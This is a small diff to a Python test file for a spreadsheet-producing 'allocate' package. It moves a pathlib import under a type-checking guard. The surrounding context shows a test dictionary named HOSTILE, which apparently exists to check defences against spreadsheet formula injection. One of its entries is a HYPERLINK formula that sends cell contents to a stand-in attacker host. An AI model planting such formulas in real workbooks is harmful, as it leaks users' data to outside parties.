@@ -7,7 +7,7 @@ import datetime as dt
 import re
 import shutil
 import zipfile
-from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -18,6 +18,9 @@ from allocate.output import write_result
 from allocate.report import report_writer
 from allocate.report.workbook import put
 from allocate.solve import solve
+
+if TYPE_CHECKING:
+    from pathlib import Path
 
 HOSTILE = {
     "P1": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
